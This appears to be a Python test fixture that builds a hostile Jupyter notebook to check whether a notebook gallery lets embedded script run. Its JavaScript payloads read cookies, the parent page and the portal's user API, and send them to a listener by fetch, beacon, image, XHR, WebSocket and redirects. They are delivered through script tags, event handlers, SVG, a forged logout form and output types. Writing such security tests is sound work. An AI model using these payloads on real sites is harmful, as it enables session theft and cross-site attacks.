"""A notebook written to attack whoever views it in the gallery: every way a notebook can carry script.

Each attack logs ``hostile-ran:<name>`` to the console when its script runs (so the test can tell a
contained script from one that never ran) and then tries every channel it has to tell the listener,
carrying whatever it could read: the viewer's cookies, the portal's answers, the parent page.
"""

from __future__ import annotations

import json
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

MARKER = "hostile-ran:"


def _attack_script(name: str, listener: str, portal: str) -> str:
    """JavaScript that reads what it can and sends it every way it can."""
    return f"""
(function () {{
  var name = {json.dumps(name)}, listener = {json.dumps(listener)}, portal = {json.dumps(portal)};
  console.log({json.dumps(MARKER)} + name);
  var loot = {{name: name}};
  try {{ loot.cookie = document.cookie; }} catch (e) {{ loot.cookie_error = String(e); }}
  try {{ loot.parent = window.parent.document.body.innerHTML.slice(0, 200); }} catch (e) {{}}
  try {{ loot.top = window.top.location.href; }} catch (e) {{}}
  function send() {{
    var query = "?" + encodeURIComponent(JSON.stringify(loot));
    try {{ fetch(listener + query, {{method: "POST", mode: "no-cors", body: JSON.stringify(loot)}}); }} catch (e) {{}}
    try {{ navigator.sendBeacon(listener + query, JSON.stringify(loot)); }} catch (e) {{}}
    try {{ new Image().src = listener + "/img" + query; }} catch (e) {{}}
    try {{ var x = new XMLHttpRequest(); x.open("GET", listener + "/xhr" + query); x.send(); }} catch (e) {{}}
    try {{ new WebSocket(listener.replace("http", "ws") + "/ws"); }} catch (e) {{}}
    try {{ window.open(listener + "/popup" + query); }} catch (e) {{}}
    try {{ window.parent.postMessage({{type: "appliance:signed-out-of-jupyterlab"}}, "*"); }} catch (e) {{}}
  }}
  try {{
    fetch(portal + "/api/discovery/v1/me", {{credentials: "include"}})
      .then(function (r) {{ return r.text(); }}).then(function (t) {{ loot.me = t; send(); }}, send);
  }} catch (e) {{ send(); }}
  send();
  setTimeout(function () {{
    try {{ window.top.location = listener + "/top"; }} catch (e) {{}}
    try {{ window.location = listener + "/self"; }} catch (e) {{}}
  }}, 300);
}})();
"""


def hostile_notebook(listener: str, portal: str) -> dict[str, Any]:
    """The notebook as JSON. ``portal``: the portal's origin the attacks aim at; ``listener``: where they report."""
    def script(name: str) -> str:
        return f"<script>{_attack_script(name, listener, portal)}</script>"

    def attribute(name: str) -> str:
        return _attack_script(name, listener, portal).replace('"', "&quot;")

    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
           f'onload="{attribute("svg-onload")}">'
           f'<rect width="10" height="10"/></svg>')
    markdown = "\n".join([
        "# Totally normal analysis",
        "",
        "Nothing to see here: quarterly hostile-benchmark results.",
        "",
        script("markdown-script"),
        f'<img src="x" onerror="{attribute("markdown-onerror")}">',
        f'<a id="js-link" href="javascript:{attribute("javascript-link")}">click me</a>',
        f'<iframe src="{portal}/" width="300" height="100"></iframe>',
        f'<form id="sign-out" action="{portal}/logout" method="post"><input name="x" value="1"></form>',
        script("form-submit").replace("(function () {", "(function () { try { document.forms[0].submit(); } "
                                                       "catch (e) {}", 1),
        f'<meta http-equiv="refresh" content="1;url={listener}/refresh">',
        f'<link rel="stylesheet" href="{listener}/css">',
    ])
    notebook = new_notebook(cells=[
        new_markdown_cell(markdown),
        new_code_cell("display(HTML(payload))", outputs=[
            new_output("display_data", data={"text/html": script("html-output") + "<b>html output</b>",
                                             "text/plain": "<IPython.core.display.HTML object>"}),
        ]),
        new_code_cell("display(Javascript(payload))", outputs=[
            new_output("display_data", data={"application/javascript": _attack_script("javascript-output",
                                                                                       listener, portal),
                                             "text/plain": "<IPython.core.display.Javascript object>"}),
        ]),
        new_code_cell("display(SVG(payload))", outputs=[
            new_output("display_data", data={"image/svg+xml": svg, "text/plain": "<IPython.core.display.SVG>"}),
        ]),
        new_code_cell("display(Markdown(payload))", outputs=[
            new_output("display_data", data={"text/markdown": script("markdown-output"),
                                             "text/plain": "<IPython.core.display.Markdown object>"}),
        ]),
    ])
    # the showcase cell is the hostile markdown: the card preview on the portal's origin must not run it
    notebook.cells[0].metadata["appliance"] = {"showcase": True}
    nbformat.validate(notebook)
    return dict(notebook)
